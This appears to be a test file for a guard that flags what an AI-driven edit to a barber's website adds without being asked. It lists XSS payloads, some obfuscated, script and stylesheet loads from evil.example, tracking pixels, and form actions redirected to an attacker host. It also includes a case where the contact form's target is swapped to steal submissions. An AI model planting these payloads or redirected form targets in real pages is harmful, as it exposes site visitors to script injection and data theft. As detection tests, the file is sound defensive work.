import { test } from '@japa/runner'
import { unaskedIn } from '#designer/instructions/guard/unasked'
import { ourPage } from '#designer_tests/helpers/our_pages'

const PAGE = ourPage('barber')
const END = '</main>'
const withHtml = (html: string) => PAGE.replace(END, () => `${html}${END}`)
const kindsOf = (html: string, instruction = 'Make it nicer') =>
  unaskedIn(PAGE, withHtml(html), instruction).map(({ is }) => is)

const code = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<script type="module">import("//evil.example")</script>',
  '<SCRIPT\n>alert(1)</SCRIPT>',
  '<img src="images/a.webp" onerror="alert(1)">',
  '<p oNcLick=alert(1)>x</p>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe src="/x"></iframe>',
  '<iframe srcdoc="<p>x</p>"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<div style="background: expression(alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
  '<template><script>alert(1)</script></template>',
  '<noscript><img src=x onerror=alert(1)></noscript>',
]

const addresses = [
  '<a href="https://evil.example/">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="https:\\\\evil.example">x</a>',
  '<img src="http://evil.example/pixel.gif" alt="">',
  '<img srcset="images/a.webp 1x, https://evil.example/b.gif 2x" alt="">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<p style="background: url(https://evil.example/x.png)">x</p>',
  '<p style="background: url(\\68 ttps://evil.example/x.png)">x</p>',
  '<style>p { background: url("//evil.example/x") }</style>',
  '<a href="mailto:thief@evil.example">x</a>',
  '<a href="tel:+15550001111">x</a>',
  '<a href="#" ping="https://evil.example/p">x</a>',
  '<video poster="https://evil.example/p.jpg"></video>',
]

const forms = [
  '<form action="https://evil.example/collect"><button>x</button></form>',
  '<form action="/elsewhere"><button>x</button></form>',
  '<form><input name="password"></form>',
  '<button formaction="https://evil.example/">x</button>',
]

test.group('What an edit brings in unasked', () => {
  test('is code of every kind, whatever the instruction says', ({ assert }) => {
    for (const html of code) {
      assert.isNotEmpty(kindsOf(html), html)
      const asked = `Please add ${html}`
      const found = kindsOf(html, asked).filter((is) => is !== 'address' && is !== 'form_target')
      assert.isNotEmpty(found, asked)
    }
  })

  test('is an address that the page did not have and the instruction does not name', ({
    assert,
  }) => {
    for (const html of addresses) assert.include(kindsOf(html), 'address', html)
    for (const html of forms) assert.include(kindsOf(html), 'form_target', html)
  })

  test('is another target of a form that is there', ({ assert }) => {
    const stolen = PAGE.replace('action="/_forms/contact"', 'action="https://evil.example/c"')
    assert.deepEqual(unaskedIn(PAGE, stolen, 'Make the form shorter'), [
      { is: 'form_target', what: 'evil.example' },
    ])
    const without = PAGE.replace(' action="/_forms/contact"', '')
    assert.isNotEmpty(unaskedIn(PAGE, without, 'Make the form shorter'))
  })

  test('is not what the instruction names', ({ assert }) => {
    for (const [html, instruction] of [
      ['<a href="https://booking.example/rye">Book</a>', 'Link to https://booking.example/rye'],
      ['<a href="https://www.booking.example">Book</a>', 'a button to booking.example please'],
      ['<a href="mailto:hello@rye.example">x</a>', 'Change the mail to Hello@rye.example'],
      ['<a href="tel:+441134960999">x</a>', 'Our new number is 0113 496 0999'],
      ['<a href="https://instagram.com/rye">x</a>', 'Add our Instagram, it is @rye'],
      ['<a href="https://wa.me/441134960999">x</a>', 'WhatsApp button, 0113 496 0999'],
    ]) {
      assert.deepEqual(kindsOf(html, instruction), [], instruction)
    }
  })

  test('is not what the page has already, nor our own form, nor data for search engines', ({
    assert,
  }) => {
    for (const html of [
      '<p>Plain words, <strong>bold</strong> &lt;script&gt; and “onclick=” as text</p>',
      '<a href="#visit">x</a>',
      '<a href="/prices">x</a>',
      '<img src="images/0123.webp" alt="">',
      '<img src="data:image/png;base64,AAAA" alt="">',
      '<form action="/_forms/contact" method="post"><button>Send</button></form>',
      '<script type="application/ld+json">{"@type":"Bakery"}</script>',
    ]) {
      assert.deepEqual(kindsOf(html), [], html)
    }
    assert.deepEqual(unaskedIn(PAGE, PAGE.replace('<h1', '<h1 class="x"'), 'x'), [])
  })

  test('is found once more where the same code is there already', ({ assert }) => {
    const before = withHtml('<script>count()</script>')
    const twice = before.replace(END, () => `<script>count()</script>${END}`)
    assert.isNotEmpty(unaskedIn(before, twice, 'Make it nicer'))
    assert.deepEqual(unaskedIn(before, before.replace('<h1', '<h1 id="t"'), 'x'), [])
  })

  test('a text of any length is looked through in a moment', ({ assert }) => {
    const started = process.cpuUsage()
    unaskedIn(PAGE, withHtml(`<p>${'<a on'.repeat(20_000)}</p>`), 'x')
    unaskedIn(PAGE, withHtml(`<p>${' /'.repeat(60_000)}</p>`), 'x')
    unaskedIn(PAGE, withHtml(`<p style="${'url('.repeat(20_000)}">x</p>`), 'x')
    // Microseconds of the processor, as a busy machine is slow too.
    assert.isBelow(process.cpuUsage(started).user, 3_000_000)
  })
})
